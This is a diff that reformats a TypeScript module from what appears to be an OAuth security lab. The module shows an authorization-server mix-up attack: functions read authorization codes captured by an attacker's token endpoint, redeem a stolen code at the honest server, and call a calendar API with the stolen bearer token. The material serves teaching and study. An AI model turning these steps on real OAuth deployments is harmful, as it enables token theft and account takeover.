@@ -57,7 +57,9 @@ export type RedeemOutcome =
   | {sent: true; tokens: oauth.TokenEndpointResponse}
   | {sent: true; status: number; error: string; error_description?: string};
 
-function httpOptions(config: Pick<LabConfig, 'fetch' | 'allowInsecureRequests'>): oauth.HttpRequestOptions<string, oauth.ProtectedResourceRequestBody> {
+function httpOptions(
+  config: Pick<LabConfig, 'fetch' | 'allowInsecureRequests'>,
+): oauth.HttpRequestOptions<string, oauth.ProtectedResourceRequestBody> {
   const options: oauth.HttpRequestOptions<string, oauth.ProtectedResourceRequestBody> = {};
   // oauth4webapi refuses http: URLs unless told otherwise (RFC 6749 §3.1 and §3.2 require TLS).
   if (config.allowInsecureRequests) options[oauth.allowInsecureRequests] = true;
@@ -67,10 +69,23 @@ function httpOptions(config: Pick<LabConfig, 'fetch' | 'allowInsecureRequests'>)
   return options;
 }
 
-const client = (server: ServerRegistration): oauth.Client => ({client_id: server.clientId, token_endpoint_auth_method: 'none'});
+const client = (server: ServerRegistration): oauth.Client => ({
+  client_id: server.clientId,
+  token_endpoint_auth_method: 'none',
+});
 
-function refusal(error: oauth.ResponseBodyError): {sent: true; status: number; error: string; error_description?: string} {
-  return {sent: true, status: error.status, error: error.error, ...(error.error_description ? {error_description: error.error_description} : {})};
+function refusal(error: oauth.ResponseBodyError): {
+  sent: true;
+  status: number;
+  error: string;
+  error_description?: string;
+} {
+  return {
+    sent: true,
+    status: error.status,
+    error: error.error,
+    ...(error.error_description ? {error_description: error.error_description} : {}),
+  };
 }
 
 /** Fetches the metadata of the server the user picked (RFC 8414 §3); it must name that issuer. */
@@ -83,7 +98,11 @@ export async function discover(config: LabConfig, server: ServerRegistration): P
  * Starts a sign-in at the server the user picked: `state` and a PKCE pair (RFC 6749 §10.12, RFC 7636
  * §4.1-4.3), the authorization request URL, and the session the app keeps until the user is back.
  */
-export async function startSignIn(as: oauth.AuthorizationServer, config: LabConfig, server: ServerRegistration): Promise<{session: SignInSession; url: URL}> {
+export async function startSignIn(
+  as: oauth.AuthorizationServer,
+  config: LabConfig,
+  server: ServerRegistration,
+): Promise<{session: SignInSession; url: URL}> {
   if (!as.authorization_endpoint) throw new Error('The authorization server metadata has no authorization_endpoint.');
   const state = oauth.generateRandomState();
   const codeVerifier = oauth.generateRandomCodeVerifier();
@@ -123,9 +142,20 @@ export async function redeemCode(
     if (!(error instanceof oauth.OperationProcessingError)) throw error;
     return {sent: false, error: error.message, ...(error.code ? {code: error.code} : {})};
   }
-  const tokenResponse = await oauth.authorizationCodeGrantRequest(as, client(session.server), oauth.None(), parameters, config.redirectUri, session.codeVerifier, httpOptions(config));
+  const tokenResponse = await oauth.authorizationCodeGrantRequest(
+    as,
+    client(session.server),
+    oauth.None(),
+    parameters,
+    config.redirectUri,
+    session.codeVerifier,
+    httpOptions(config),
+  );
   try {
-    return {sent: true, tokens: await oauth.processAuthorizationCodeResponse(as, client(session.server), tokenResponse)};
+    return {
+      sent: true,
+      tokens: await oauth.processAuthorizationCodeResponse(as, client(session.server), tokenResponse),
+    };
   } catch (error) {
     if (!(error instanceof oauth.ResponseBodyError)) throw error;
     return refusal(error);
@@ -142,7 +172,10 @@ export interface ReceivedTokenRequest {
 }
 
 /** The attacker's side: what its token endpoint received, newest first. */
-export async function readAttackerLog(attackerIssuer: string, config: Pick<LabConfig, 'fetch'>): Promise<ReceivedTokenRequest[]> {
+export async function readAttackerLog(
+  attackerIssuer: string,
+  config: Pick<LabConfig, 'fetch'>,
+): Promise<ReceivedTokenRequest[]> {
   const url = `${attackerIssuer}/received`;
   const response = await (config.fetch ?? fetch)(url, {headers: {accept: 'application/json'}});
   if (!response.ok) throw new Error(`${url} answered ${response.status}`);
@@ -167,7 +200,11 @@ export async function redeemStolenCode(
     attacker,
     oauth.None(),
     'authorization_code',
-    {code: stolen.code, redirect_uri: stolen.redirect_uri ?? config.redirectUri, ...(stolen.code_verifier ? {code_verifier: stolen.code_verifier} : {})},
+    {
+      code: stolen.code,
+      redirect_uri: stolen.redirect_uri ?? config.redirectUri,
+      ...(stolen.code_verifier ? {code_verifier: stolen.code_verifier} : {}),
+    },
     httpOptions(config),
   );
   try {
@@ -179,19 +216,37 @@ export async function redeemStolenCode(
 }
 
 /** The attacker uses the access token as a bearer token (RFC 6750 §2.1). */
-export async function callApiWithStolenToken(url: string, accessToken: string, config: Pick<LabConfig, 'fetch' | 'allowInsecureRequests'>): Promise<{status: number; body: unknown}> {
-  const response = await oauth.protectedResourceRequest(accessToken, 'GET', new URL(url), new Headers({accept: 'application/json'}), null, httpOptions(config));
+export async function callApiWithStolenToken(
+  url: string,
+  accessToken: string,
+  config: Pick<LabConfig, 'fetch' | 'allowInsecureRequests'>,
+): Promise<{status: number; body: unknown}> {
+  const response = await oauth.protectedResourceRequest(
+    accessToken,
+    'GET',
+    new URL(url),
+    new Headers({accept: 'application/json'}),
+    null,
+    httpOptions(config),
+  );
   return {status: response.status, body: await response.json().catch(() => null)};
 }
 
 /** What the attacker got for its trouble: nothing from this sign-in, or the honest server's answer to the code it received. */
-export type Theft = {stolen: false; received: number} | {stolen: true; outcome: RedeemOutcome; sub?: string; apiStatus?: number};
+export type Theft =
+  {stolen: false; received: number} | {stolen: true; outcome: RedeemOutcome; sub?: string; apiStatus?: number};
 
 /**
  * The attacker's whole move: it reads what its token endpoint received, picks this sign-in's code (the
  * one in the app's callback), redeems it at the honest server and reads the calendar with the token.
  */
-export async function useReceivedCode(config: LabConfig, honest: ServerRegistration, attackerIssuer: string, callbackUrl: URL | string, eventsUrl: string): Promise<Theft> {
+export async function useReceivedCode(
+  config: LabConfig,
+  honest: ServerRegistration,
+  attackerIssuer: string,
+  callbackUrl: URL | string,
+  eventsUrl: string,
+): Promise<Theft> {
   const received = await readAttackerLog(attackerIssuer, config);
   const code = new URL(callbackUrl).searchParams.get('code');
   const stolen = received.find((entry) => entry.code === code);
